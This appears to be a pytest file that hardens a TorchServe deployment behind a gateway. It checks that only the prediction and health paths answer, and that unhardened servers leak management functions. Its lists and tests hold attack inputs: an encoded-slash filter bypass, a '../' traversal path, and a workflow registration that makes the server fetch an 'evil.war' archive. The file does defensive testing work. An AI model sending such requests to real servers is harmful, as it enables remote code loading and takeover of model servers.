"""A path that was not meant for clients.

TorchServe's management interface loads code: `POST /models` registers an archive, and `POST /workflows` fetches one
from any address and runs the Python in it, even where registering is switched off. No fixed release exists. The
inference interface has more to offer than predictions too, and decodes a path before it looks at it, so that a filter
which reads `/predictions%2Fdigits` literally is walked around.
Here only `POST /predictions/<model>` and `GET /healthz` exist, each compared as a whole, and the management interface
is a file that only the launcher opens.
"""

import json
from collections.abc import Callable

import pytest

from attacks.catalogue import Attack, attacks_on, sample_digit
from attacks.stock import StockServer
from attacks.weakened import recording_server
from garrison.unix_http import send_request
from stack.running import Answer, RunningStack, Target, free_port

ELSEWHERE = [
    ("GET", "/"),
    ("GET", "/ping"),
    ("GET", "/metrics"),
    ("GET", "/api-description"),
    ("GET", "/models"),
    ("GET", "/models/digits"),
    ("PUT", "/models/digits?min_worker=64"),
    ("PUT", "/models/digits/1/set-default"),
    ("DELETE", "/models/digits"),
    ("GET", "/workflows"),
    ("POST", "/wfpredict/digits"),
    ("POST", "/explanations/digits"),
    ("POST", "/invocations"),
    ("POST", "/digits/predict"),
    ("POST", "/v1/models/digits:predict"),
    ("POST", "/v2/models/digits/infer"),
    ("POST", "/predictions"),
    ("POST", "/predictions/digits/1"),
    ("POST", "/predictions/digits?explain=True"),
    ("POST", "/predictions/digits/"),
    ("POST", "/predictions/digits/../../models"),
    ("GET", "/predictions/digits"),
    ("POST", "/healthz"),
    ("GET", "/healthz/"),
    ("GET", "/stats"),
    ("POST", "/quitquitquit"),
]


@pytest.mark.parametrize("attack", attacks_on("management_paths"), ids=lambda attack: attack.name)
def test_the_attack_is_stopped(
    target: Target, attack: Attack, assert_stopped: Callable[[Attack, Answer], None]
) -> None:
    assert_stopped(attack, attack.attempt(target))


@pytest.mark.parametrize(("method", "path"), ELSEWHERE, ids=lambda part: part)
def test_nothing_else_is_there(target: Target, method: str, path: str) -> None:
    answer = target.send(method, path, sample_digit() if method != "GET" else b"")
    assert (answer.status, answer.reason) == (404, "not_found")


def test_the_two_paths_that_exist_answer(target: Target) -> None:
    assert target.send(body=sample_digit()).status == 200
    assert target.send("GET", "/healthz", key=None).status == 200


# Without the gate -----------------------------------------------------------------------------------------------------


def ask(running: RunningStack, socket: str, method: str, path: str, body: bytes = b"") -> tuple[int, object]:
    answer = send_request(running.run_directory / f"{socket}.sock", method, path, 30, body)
    return answer.status, json.loads(answer.body)


def test_without_the_gateway_the_inference_socket_describes_its_api(running: RunningStack) -> None:
    status, api = ask(running, "inference", "OPTIONS", "/")
    assert status == 200
    assert isinstance(api, dict) and "/predictions/{model_name}" in api["paths"]


def test_without_the_gateway_an_encoded_path_reaches_the_model(running: RunningStack) -> None:
    status, answer = ask(running, "inference", "POST", "/predictions%2Fdigits", sample_digit())
    assert status == 200
    assert isinstance(answer, dict) and next(iter(answer)) == "seven"


def test_without_the_wall_around_it_the_management_socket_changes_the_server(running: RunningStack) -> None:
    """Registering is refused by our settings; scaling is not, by no setting: only the socket's place protects it."""
    status, _ = ask(running, "management", "POST", "/models?url=digits.mar")
    assert status not in (200, 404)
    status, answer = ask(running, "management", "PUT", "/models/digits?min_worker=1")
    assert status == 202, answer


def test_in_stock_the_management_interface_takes_the_same_requests_up(stock: StockServer) -> None:
    """Registering is off since 0.12, says the server, and means one of its two ways to load code."""
    assert json.loads(stock.manage("POST", "/models?url=nowhere.mar").body)["type"] == "MethodNotAllowedException"
    assert json.loads(stock.manage("POST", "/workflows?url=nowhere.war").body)["type"] == "WorkflowNotFoundException"


def test_in_stock_a_workflow_is_fetched_from_anywhere(stock: StockServer) -> None:
    """The first half of running somebody's code: the archive is on its way before anyone asks whose it is."""
    address = ("127.0.0.1", free_port())
    with recording_server(address) as seen:
        stock.manage("POST", f"/workflows?url=http://127.0.0.1:{address[1]}/evil.war")
    assert [(request.method, request.path) for request in seen] == [("GET", "/evil.war")]
